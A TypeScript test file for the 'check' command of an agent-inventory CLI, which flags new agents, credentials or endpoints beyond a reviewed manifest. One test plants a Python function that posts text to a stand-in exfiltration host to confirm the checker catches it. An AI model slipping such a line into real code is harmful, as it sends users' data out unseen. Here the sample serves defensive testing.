import { appendFileSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createEngine } from '../api/engine';
import { CORPUS_REPOS_DIR } from '../discovery/corpus/corpus-expectation';
import { exportThroughJob } from '../exports/test-export';
import { tempDir } from '../store/test-workspace';
import { runCli } from './run-cli';
import { captureIo, type CliJsonDocument } from './test-io';

type Run = { code: number; stdout: string; stderr: string; json: () => CliJsonDocument };

describe('agent-triage check', () => {
  let tmp: ReturnType<typeof tempDir>;
  const cli = async (argv: string[]): Promise<Run> => {
    const out = captureIo({ env: { AGENT_TRIAGE_HOME: tmp.file('home') }, cwd: tmp.dir });
    const code = await runCli(argv, out.io);
    return { code, stdout: out.stdout(), stderr: out.stderr(), json: out.json };
  };

  /** The engine, as the app would run it, for what the CLI has no command for (confirming candidates, exporting the manifest). */
  async function withWorkspace<T>(use: (call: (method: string, input: unknown) => Promise<unknown>) => Promise<T>): Promise<T> {
    const engine = await createEngine({ homeDir: tmp.file('home'), host: 'test', version: '0.0.0-test', defaultActor: 'tester', openLastWorkspace: false });
    const call = async (method: string, input: unknown) => {
      const result = await engine.dispatch(method as Parameters<typeof engine.dispatch>[0], input, { actor: '', via: 'test' });
      if (!result.ok) throw new Error(result.error.message);
      return result.value;
    };
    try {
      await call('openWorkspace', { path: tmp.file('w.atw') });
      return await use(call);
    } finally {
      await engine.close();
    }
  }

  const exportManifest = () =>
    withWorkspace(async (call) => {
      const file = await exportThroughJob(call, 'manifest');
      writeFileSync(tmp.file('agents.yaml'), Buffer.from(file.contentBase64, 'base64'));
    });

  /** The market briefing repository scanned and its agents confirmed, then its manifest exported: the reviewed state. */
  async function reviewedRepository(): Promise<void> {
    cpSync(join(CORPUS_REPOS_DIR, 'crewai-research-email', 'repo'), tmp.file('repo'), { recursive: true });
    expect((await cli(['scan', 'repo', '--workspace', 'w.atw'])).code).toBe(0);
    await withWorkspace(async (call) => {
      const { candidates } = (await call('listCandidates', { decision: 'pending' })) as { candidates: Array<{ identityKey: string }> };
      for (const c of candidates) await call('confirmCandidate', { identityKey: c.identityKey });
    });
    await exportManifest();
  }

  beforeEach(() => {
    tmp = tempDir('atw-cli-check-');
  });
  afterEach(() => tmp.cleanup());

  it('passes against the manifest just exported, and again after a fresh scan of unchanged code', async () => {
    await reviewedRepository();
    const run = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml']);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('nothing new beyond it');
    expect(run.stdout).toMatch(/check passed\.\n$/);
    const rescanned = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml', '--scan', 'repo', '--json']);
    expect(rescanned.code).toBe(0);
    expect(rescanned.json()).toMatchObject({ ok: true, value: { passed: true, manifest: { failures: [], reported: [] } } });
  });

  it('fails on a new credential in the code, naming the agent and the credential', async () => {
    await reviewedRepository();
    appendFileSync(tmp.file('repo/src/market_briefing/tools.py'), '\n\ndef upload_archive():\n    token = os.environ["ARCHIVE_UPLOAD_TOKEN"]\n    return token\n');
    const run = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml', '--scan', 'repo']);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/: new credential ARCHIVE_UPLOAD_TOKEN \(env-var\)/);
    expect(run.stdout).toMatch(/check FAILED\.\n$/);
    expect(run.stderr).toMatch(/^agent-triage: check failed: \d+ beyond the manifest\.\n$/);
  });

  it('fails on a new endpoint in the code', async () => {
    await reviewedRepository();
    appendFileSync(tmp.file('repo/src/market_briefing/tools.py'), '\n\ndef mirror(text):\n    requests.post("https://paste.exfil-example.net/api/upload", data=text, timeout=10)\n');
    const run = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml', '--scan', 'repo', '--json']);
    expect(run.code).toBe(1);
    const doc = run.json() as { ok: false; error: { code: string; details: { passed: boolean; manifest: { failures: Array<{ agent: string; what: string }> } } } };
    expect(doc.ok).toBe(false);
    expect(doc.error.code).toBe('conflict');
    expect(doc.error.details.passed).toBe(false);
    expect(doc.error.details.manifest.failures.map((f) => f.what)).toContain('new endpoint paste.exfil-example.net (api)');
  });

  it('fails on a new agent, and reports (but passes) what the manifest lists that is gone', async () => {
    writeFileSync(tmp.file('one.csv'), 'Agent Name,Status,Owner,Owner E-mail\nRefund Triage Bot,confirmed,Priya Raman,priya.raman@example.com\n');
    expect((await cli(['registry', 'import', 'one.csv', '--workspace', 'w.atw'])).code).toBe(0);
    await exportManifest();
    const manifest = readFileSync(tmp.file('agents.yaml'), 'utf8');
    // The reviewed manifest allowed more than the agent now has: an endpoint, a credential, and an agent since retired.
    const widened = manifest
      .replace('endpoints: []', 'endpoints:\n      - host: api.stripe.com\n        purpose: api')
      .replace('credentials: []', 'credentials:\n      - kind: env-var\n        name: STRIPE_KEY')
      .replace(/agents:\n/, 'agents:\n  - id: retired-1\n    name: Old Ledger Bot\n    status: retired\n    trigger: { kind: cron }\n    review: { status: unreviewed }\n    budget: {}\n');
    writeFileSync(tmp.file('agents.yaml'), widened);
    const reduced = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml']);
    expect(reduced.code).toBe(0);
    expect(reduced.stdout).toContain('Reported, not failing');
    expect(reduced.stdout).toContain('Old Ledger Bot: in the manifest, no longer in the workspace');
    expect(reduced.stdout).toContain('Refund Triage Bot: endpoints api.stripe.com (api): in the manifest, no longer seen');

    writeFileSync(tmp.file('two.csv'), 'Agent Name,Status\nShadow Summariser,confirmed\n');
    expect((await cli(['registry', 'import', 'two.csv', '--workspace', 'w.atw'])).code).toBe(0);
    const grown = await cli(['check', '--workspace', 'w.atw', '--manifest', 'agents.yaml']);
    expect(grown.code).toBe(1);
    expect(grown.stdout).toContain('Shadow Summariser: new agent, not in the manifest');
  });

  it('import --dry-run of an edited manifest lists the one change; importing applies it', async () => {
    writeFileSync(tmp.file('one.csv'), 'Agent Name,Status,Owner,Owner E-mail\nRefund Triage Bot,confirmed,Priya Raman,priya.raman@example.com\n');
    expect((await cli(['registry', 'import', 'one.csv', '--workspace', 'w.atw'])).code).toBe(0);
    await exportManifest();
    writeFileSync(tmp.file('agents.yaml'), readFileSync(tmp.file('agents.yaml'), 'utf8').replace('name: Priya Raman', 'name: Dana Cole'));
    const dry = await cli(['import', 'agents.yaml', '--workspace', 'w.atw', '--dry-run']);
    expect(dry.code).toBe(0);
    expect(dry.stdout).toContain('agents.yaml: Agents manifest (YAML)');
    expect(dry.stdout).toContain('    Refund Triage Bot:\n      Owner: Priya Raman <priya.raman@example.com> in the workspace, Dana Cole <priya.raman@example.com> in the manifest (importing applies the manifest)\n');
    expect((await cli(['import', 'agents.yaml', '--workspace', 'w.atw'])).code).toBe(0);
    const list = (await withWorkspace((call) => call('listAgents', {}))) as { rows: Array<{ name: string; ownerName: string }> };
    expect(list.rows).toMatchObject([{ name: 'Refund Triage Bot', ownerName: 'Dana Cole' }]);
  });

  it('--fail-on fails when an agent is at that tier or worse, with the agents, tiers and top reasons; passes above the worst tier', async () => {
    writeFileSync(
      tmp.file('agents.csv'),
      ['Agent Name,Status,Trigger Type,Data Access Scope,Credentials Held,Owner,Owner E-mail', 'Refund Triage Bot,confirmed,webhook,payments.refunds:write,STRIPE_KEY,Priya Raman,priya.raman@example.com', 'Idle Helper,confirmed,,,,Platform Team,'].join('\n'),
    );
    expect((await cli(['registry', 'import', 'agents.csv', '--workspace', 'w.atw'])).code).toBe(0);
    const triage = (await cli(['triage', '--workspace', 'w.atw', '--json'])).json() as { ok: true; value: { agents: Array<{ row: { name: string; risk: { tier: string } } }> } };
    const tiers = triage.value.agents.map((a) => a.row.risk.tier).sort();
    const worst = tiers[0]!;
    const failing = await cli(['check', '--workspace', 'w.atw', '--fail-on', worst]);
    expect(failing.code).toBe(1);
    const worstAgent = triage.value.agents.find((a) => a.row.risk.tier === worst)!.row.name;
    expect(failing.stdout).toContain(`${worst} ${worstAgent} (score`);
    expect(failing.stdout).toMatch(/ {5}- monitoring /);
    expect(failing.stdout).toMatch(/ {5}- fails: /);
    expect(failing.stderr).toMatch(/check failed: \d+ at P\d or worse/);
    const better = `P${Number(worst.slice(1)) - 1}`;
    if (worst !== 'P0') {
      const passing = await cli(['check', '--workspace', 'w.atw', '--fail-on', better]);
      expect(passing.code).toBe(0);
      expect(passing.stdout).toContain(`Risk: no agent at ${better} or worse.`);
    }
    expect((await cli(['check', '--workspace', 'w.atw', '--fail-on', 'p3'])).code).toBe(1);
  });

  it('exits 2 on a usage or input error: no bar, a bad tier, a missing workspace, a missing, malformed or wrong-version manifest', async () => {
    writeFileSync(tmp.file('one.csv'), 'Agent Name,Status\nRefund Triage Bot,confirmed\n');
    expect((await cli(['registry', 'import', 'one.csv', '--workspace', 'w.atw'])).code).toBe(0);
    await exportManifest();
    const good = readFileSync(tmp.file('agents.yaml'), 'utf8');
    writeFileSync(tmp.file('broken.yaml'), good.replace('agents:', 'agents: [oops'));
    writeFileSync(tmp.file('v2.yaml'), good.replace('agent-triage/v1', 'agent-triage/v2'));
    const cases: Array<[string[], RegExp]> = [
      [['check', '--workspace', 'w.atw'], /needs --fail-on/],
      [['check', '--workspace', 'w.atw', '--fail-on', 'P7'], /--fail-on takes one of P0, P1, P2, P3/],
      [['check', '--workspace', 'nope.atw', '--fail-on', 'P1'], /There is no workspace at/],
      [['check', '--workspace', 'w.atw', '--manifest', 'missing.yaml'], /There is no manifest at/],
      [['check', '--workspace', 'w.atw', '--manifest', 'broken.yaml'], /broken\.yaml: is not valid YAML at line \d+/],
      [['check', '--workspace', 'w.atw', '--manifest', 'v2.yaml'], /v2\.yaml: has apiVersion "agent-triage\/v2"/],
    ];
    for (const [argv, message] of cases) {
      const run = await cli(argv);
      expect(run.code, argv.join(' ')).toBe(2);
      expect(run.stderr, argv.join(' ')).toMatch(message);
    }
    const help = await cli(['check', '--help']);
    expect(help.stdout).toContain('Exit codes: 0 the check passed; 1 the check failed');
  });
});
